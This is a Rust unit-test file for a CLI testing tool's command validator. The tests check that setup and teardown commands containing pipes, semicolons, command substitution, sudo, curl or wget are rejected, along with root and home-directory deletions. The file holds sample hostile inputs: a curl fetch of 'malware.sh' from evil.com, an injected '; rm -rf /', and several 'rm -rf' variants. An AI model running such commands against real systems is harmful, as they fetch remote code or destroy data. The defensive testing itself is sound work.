use cli_testing_specialist::config::validator::{
    truncate, validate_command, validate_config, validate_setup_commands, validate_version,
};
use cli_testing_specialist::types::config::{
    CiSettings, CliTestConfig, DirectoryTraversalAdjustments, GlobalSettings, TestAdjustments,
};

#[test]
fn test_validate_safe_commands() {
    assert!(validate_command("mkdir -p /tmp/test", "setup").is_ok());
    assert!(validate_command("touch /tmp/test/file.txt", "setup").is_ok());
    assert!(validate_command("rm -rf /tmp/test", "teardown").is_ok());
}

#[test]
fn test_forbidden_pipe() {
    let result = validate_command("ls | grep test", "setup");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("forbidden pattern '|'"));
}

#[test]
fn test_forbidden_semicolon() {
    let result = validate_command("mkdir /tmp/test; rm -rf /", "setup");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("forbidden pattern ';'"));
}

#[test]
fn test_forbidden_command_substitution() {
    let result = validate_command("mkdir $(whoami)", "setup");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("forbidden pattern '$('"));
}

#[test]
fn test_forbidden_sudo() {
    let result = validate_command("sudo mkdir /tmp/test", "setup");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("forbidden pattern 'sudo'"));
}

#[test]
fn test_forbidden_curl() {
    let result = validate_command("curl http://evil.com/malware.sh", "setup");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("forbidden pattern 'curl'"));
}

#[test]
fn test_dangerous_rm() {
    // Dangerous root deletions should fail
    let result = validate_command("rm -rf /", "teardown");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("dangerous deletion pattern"));

    let result = validate_command("rm -rf /*", "teardown");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("dangerous deletion pattern"));

    let result = validate_command("rm -rf ~", "teardown");
    assert!(result.is_err());
    assert!(result
        .unwrap_err()
        .message()
        .contains("dangerous deletion pattern"));

    // Safe deletions should pass
    assert!(validate_command("rm -rf /tmp/test", "teardown").is_ok());
    assert!(validate_command("rm -rf /var/tmp/myapp", "teardown").is_ok());
}

#[test]
fn test_command_too_long() {
    let long_cmd = "mkdir ".to_string() + &"a".repeat(200);
    let result = validate_command(&long_cmd, "setup");
    assert!(result.is_err());
    assert!(result.unwrap_err().message().contains("too long"));
}

#[test]
fn test_not_in_allowlist() {
    let result = validate_command("python3 script.py", "setup");
    assert!(result.is_err());
    assert!(result.unwrap_err().message().contains("not in allowlist"));
}

#[test]
fn test_empty_command() {
    let result = validate_command("", "setup");
    assert!(result.is_ok()); // Empty commands are allowed (will be skipped)
}

#[test]
fn test_validate_version() {
    assert!(validate_version("1.0").is_ok());
    assert!(validate_version("2.0").is_err());
    assert!(validate_version("invalid").is_err());
}

#[test]
fn test_validate_setup_commands() {
    let commands = vec![
        "mkdir -p /tmp/test".to_string(),
        "touch /tmp/test/file.txt".to_string(),
    ];
    assert!(validate_setup_commands(&commands).is_ok());

    let bad_commands = vec![
        "mkdir /tmp/test".to_string(),
        "curl http://evil.com".to_string(),
    ];
    assert!(validate_setup_commands(&bad_commands).is_err());
}

#[test]
fn test_truncate() {
    assert_eq!(truncate("short", 10), "short");
    assert_eq!(truncate("this is a very long string", 10), "this is a ...");
}

#[test]
fn test_validate_config_checks_hooks() {
    let mut config = CliTestConfig {
        version: "1.0".to_string(),
        tool_name: "demo".to_string(),
        tool_version: None,
        test_adjustments: TestAdjustments::default(),
        global: GlobalSettings::default(),
        ci: CiSettings::default(),
    };
    assert!(validate_config(&config).is_ok());

    config.test_adjustments.directory_traversal = Some(DirectoryTraversalAdjustments {
        test_directories: vec![],
        setup_commands: vec!["wget http://example.com".to_string()],
        teardown_commands: vec![],
        skip: false,
        skip_tests: vec![],
    });
    assert!(validate_config(&config).is_err());
}
